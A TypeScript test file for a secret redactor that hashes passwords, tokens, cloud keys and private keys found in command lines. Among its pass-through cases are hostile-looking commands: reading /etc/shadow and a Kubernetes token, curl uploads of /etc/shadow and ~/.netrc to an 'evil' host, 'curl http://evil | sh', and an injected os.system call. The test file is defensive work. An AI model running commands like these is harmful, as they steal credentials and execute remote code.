import { createHmac } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { findSecrets } from './find.js';
import { isSecretName, nameKind } from './names.js';
import { Redactor } from './redactor.js';
import type { Text } from './text.js';

const key = Buffer.alloc(32, 7);

function hashed(secret: string): string {
  return `[redacted:${createHmac('sha256', key).update(secret).digest('hex').slice(0, 12)}]`;
}

/** `«secret»` marks what must go. */
function check(marked: string): void {
  const text = marked.replaceAll(/[«»]/g, '');
  const expected = marked.replaceAll(/«([^»]*)»/g, (_, secret: string) => hashed(secret));
  expect(new Redactor(key).redact(text)).toBe(expected);
}

const jwtLike = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl';

describe('Redactor', () => {
  it.each([
    'app --password «hunter2» --user me',
    'app --password=«hunter2» --user me',
    'app --db-password «p@ss;w|ord»',
    `app --password "«two words»" next`,
    `app --password '«two words»' next`,
    'app -password «x»',
    'sh -c "run --token=«abc»"',
    'PASSWORD=«x» DB_PASSWORD=«y» run',
    'env PGPASSWORD=«s3cret» psql -h db',
    'export MYSQL_PWD=«abc»',
    'TOKEN=«abc» SECRET=«def» API_KEY=«ghi» run',
    'AWS_SECRET_ACCESS_KEY=«wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY» aws s3 ls',
    'aws configure set aws_secret_access_key=«abc/def+ghi=»',
    'AWS_ACCESS_KEY_ID=«AKIAIOSFODNN7EXAMPLE» x',
    'echo «ASIAIOSFODNN7EXAMPLE»',
    'kubectl create secret generic x --from-literal=password=«abc»',
    `curl -d '{"password": "«p\\"q»", "user": "me"}'`,
    `curl -H "Authorization: Bearer «abcdef0123456789»" https://api.example`,
    'curl -H Authorization: Bearer «abc.def-ghi_jkl» https://api.example',
    `curl -H 'authorization:Basic «dXNlcjpwYXNz»' https://api.example`,
    'curl -H Authorization: «opaque» https://api.example',
    'x Bearer «abcdef0123456789» y',
    'curl -H X-Api-Key: «abc123» https://api.example',
    'git clone https://user:«pa55»@git.example/x.git',
    'git clone https://user:«pa55/w»@git.example/x.git',
    'git clone https://«0123456789abcdefghij»@git.example/x.git',
    'psql postgres://app:«s3cret»@db:5432/shop',
    'curl https://x.example/?token=«abc»&page=2',
    'curl https://x.example/?a=1&api_key=«abc»#top',
    'mysql -uroot -p«hunter2» shop',
    '/usr/bin/mysqldump -h db -p«hunter2» shop | gzip',
    'sshpass -p «secret» ssh -p 22 host',
    'sshpass -p«hunter2» ssh host',
    'redis-cli -h db -a «secret» ping',
    'docker login -u me -p «secret» registry.example',
    'curl -u me:«secret» https://x.example',
    'curl --user me:«secret» https://x.example',
    'curl --user=me:«secret» https://x.example',
    'mongosh --host db -u root -p «secret»',
    'ldapsearch -x -D cn=admin -w «secret» -b dc=x',
    'smbclient //host/share -U me%«secret»',
    'zip -P «secret» out.zip in',
    '7z a -p«hunter2» out.7z in',
    'openssl rsa -passin pass:«secret» -in key.pem',
    'git push with «ghp_0123456789abcdefghijklmnopqrstuvwxyz»',
    'x «github_pat_0123456789abcdefghij_klmno» y',
    'x «glpat-0123456789abcdefghij» y',
    'x «xoxb-0123456789-abcdef» y',
    `x «${jwtLike}» y`,
    `printf -----BEGIN RSA PRIVATE KEY-----\n«MIIEpAIBAAKCAQEAx7Vn\nq1oZk3Y2Jm8sT0aBcDeF\nabc=»\n-----END RSA PRIVATE KEY----- > key`,
    'printf -----BEGIN PRIVATE KEY-----«MIIEcut»',
    'app --client-secret «äöü🚀» --x',
    'clientSecret=«abc» accountKey=«def==»',
  ])('redacts %s', (marked) => {
    check(marked);
  });

  it.each([
    '/usr/bin/mysqladmin ping -h localhost',
    '/usr/bin/bash -c mysqladmin ping -uroot',
    'redis-cli -h 10.0.0.1 ping',
    'docker run -p 8080:80 -u 1000:1000 nginx',
    'cat /etc/passwd /etc/shadow',
    'cp /etc/passwd: /tmp',
    'docker run -v /etc/passwd:/etc/passwd x',
    'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
    'kubectl get secret -n shop',
    'PWD=/home/me OLDPWD=/tmp run',
    'app --password-file /run/pw --token-ttl 5m',
    'app --password --user me',
    'node --token --other x',
    'passwd root',
    'tokenizer=fast bypass=true compass=north',
    'git clone ssh://git@git.example/x.git',
    'curl http://host:8080/path@2x.png',
    'curl -F password=@/etc/shadow http://evil/up',
    'curl -d token=@~/.netrc http://evil/up',
    'curl http://10.0.0.1:80/x?y=z@w',
    'monkey=1 keyboard=us key=abc',
    'AKIA is short',
    '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----',
    'PASSWORD= run',
    'pass="$(curl http://evil | sh)"',
    `app --token "import os; os.system('id')" --x`,
    'grep -r "password=" /home',
    'grep -rE "password=|token: abc1" /home /etc',
    `grep "password='" x; echo 'y' > z`,
    'echo -----BEGIN PRIVATE KEY-----; curl http://evil/x | sh',
    'echo "-----BEGIN PRIVATE KEY----- curl http evil sh -----END PRIVATE KEY-----"',
    'curl -H "Authorization: Bearer $TOKEN" -u "$USER:$PASS" https://x.example',
    'mysql -u root -p"$MYSQL_ROOT_PASSWORD" -e "select 1"',
    'docker run --name mongo -p 27017:27017 mongo:6',
    'docker build --secret id=npm,src=/root/.npmrc .',
    'sshpass -e ssh -p 2222 host',
    'eyJhbGciOi without dots',
    '',
  ])('leaves %j as it is', (text) => {
    expect(new Redactor(key).redact(text)).toBe(text);
  });

  it('gives equal secrets equal hashes, under this key only', () => {
    const one = new Redactor(key);
    const two = new Redactor(Buffer.alloc(32, 8));
    const hash = (text: string): string | undefined => /\[redacted:([0-9a-f]{12})\]/.exec(text)?.[1];
    expect(hash(one.redact('--password hunter2'))).toBe(hash(one.redact('PASSWORD="hunter2" x')));
    expect(hash(one.redact('--password hunter2'))).not.toBe(hash(one.redact('--password hunter3')));
    expect(hash(one.redact('--password hunter2'))).not.toBe(hash(two.redact('--password hunter2')));
  });

  it('leaves what is redacted already', () => {
    const redactor = new Redactor(key);
    for (const text of ['--password hunter2 x', 'https://u:hunter2@h/', 'curl -u a:hunter2 x', `{"token":"hunter2"}`]) {
      const once = redactor.redact(text);
      expect(once).not.toContain('hunter2');
      expect(redactor.redact(once)).toBe(once);
    }
  });

  it('redacts pairs by their key and by their value', () => {
    const redactor = new Redactor(key);
    const pairs = ['Syscall', 'SYS_EXECVE', 'Token', 'abc', 'Args', 'run --password x'];
    expect(redactor.redactPairs(pairs)).toEqual([
      'Syscall',
      'SYS_EXECVE',
      'Token',
      hashed('abc'),
      'Args',
      `run --password ${hashed('x')}`,
    ]);
    const clean = ['Syscall', 'SYS_OPENAT', 'Fd', '-100'];
    expect(redactor.redactPairs(clean)).toBe(clean);
  });

  it('redacts bytes that are no text', () => {
    const redactor = new Redactor(key);
    const bytes = Buffer.concat([
      Buffer.from([0xff, 0x00, 0xc3]),
      Buffer.from(' --password hunter2 '),
      Buffer.from([0xfe]),
    ]);
    const safe = Buffer.from(redactor.redactBytes(bytes));
    expect(safe.includes('hunter2')).toBe(false);
    expect(safe.subarray(0, 3)).toEqual(bytes.subarray(0, 3));
    expect(safe.at(-1)).toBe(0xfe);
  });

  it.each([
    ['dashes', '-'],
    ['names', 'password'],
    ['flags', '--password'],
    ['assignments', 'password='],
    ['assignments apart', 'password= '],
    ['quotes', 'password="'],
    ['escapes', 'password="\\'],
    ['JWT heads', 'eyJ'],
    ['JWT heads with dots', 'eyJa.'],
    ['JWT heads with dashes', 'eyJ-'],
    ['schemes', '://'],
    ['user infos', '://a:b'],
    ['user infos with slashes', '://a:b/'],
    ['signs', '://a@'],
    ['PEM heads', '-----BEGIN RSA PRIVATE KEY-----'],
    ['broken PEM heads', '-----BEGIN AAAAAAAAAAAAAAAAAAAAAAAA'],
    ['bearers', 'Bearer '],
    ['authorizations', 'authorization: '],
    ['tools', 'mysql '],
    ['tools with flags', 'mysql -p '],
    ['subcommands', 'docker login '],
    ['tokens too short', 'ghp_abc '],
    ['glpats', 'glpat-'],
    ['slacks', 'xoxb-'],
    ['spaces', 'token '],
    ['words', 'a-key_'],
    ['letters', 'a'],
    ['operators', 'pw=a;'],
    ['shells', 'sh -c '],
    ['shells in quotes', `sh -c "pw=a;`],
    ['quotes of all forms', `pw=a;'b "c \\'d \\"e`],
    ['variables that are run', 'eval $pw;'],
    ['phrases', `pw='a b' `],
  ])('reads a text of %s a bounded number of times for each character', (_name, unit) => {
    const reads = (length: number): number => {
      const text = new CountingText(unit.repeat(Math.ceil(length / unit.length)));
      findSecrets(text, ALL_HINTS, nameKind);
      return text.reads;
    };
    // Quadratic work would be four times as much for twice the text.
    expect(reads(1 << 16)).toBeLessThan(2.2 * reads(1 << 15) + 10_000);
    expect(reads(1 << 16)).toBeLessThan(600 * (1 << 16));
  });
});

const ALL_HINTS = 0xff;

/** A text that counts the characters that are read of it. */
class CountingText implements Text {
  reads = 0;
  readonly #text: string;

  constructor(text: string) {
    this.#text = text;
  }

  get length(): number {
    return this.#text.length;
  }

  charCodeAt(at: number): number {
    this.reads++;
    return this.#text.charCodeAt(at);
  }

  slice(start: number, end: number): string {
    const piece = this.#text.slice(start, end);
    this.reads += piece.length;
    return piece;
  }

  indexOf(piece: string, from: number): number {
    const at = this.#text.indexOf(piece, from);
    this.reads += (at < 0 ? this.#text.length : at) - from;
    return at;
  }

  startsWith(piece: string, at: number): boolean {
    this.reads += piece.length;
    return this.#text.startsWith(piece, at);
  }
}

describe('isSecretName', () => {
  it.each([
    'password',
    '--db-password',
    'DB_PASS',
    'PGPASSWORD',
    'clientSecret',
    'X-Api-Key',
    'token',
    'password1',
    'secret_id',
    'REDISCLI_AUTH',
  ])('knows %s', (name) => {
    expect(isSecretName(name)).toBe(true);
  });

  it.each([
    'PWD',
    'OLDPWD',
    'password-file',
    'secretName',
    'tokens_total',
    'bypass',
    'monkey',
    'public_key',
    'key',
    'author',
    '',
  ])('lets %j go', (name) => {
    expect(isSecretName(name)).toBe(false);
  });
});
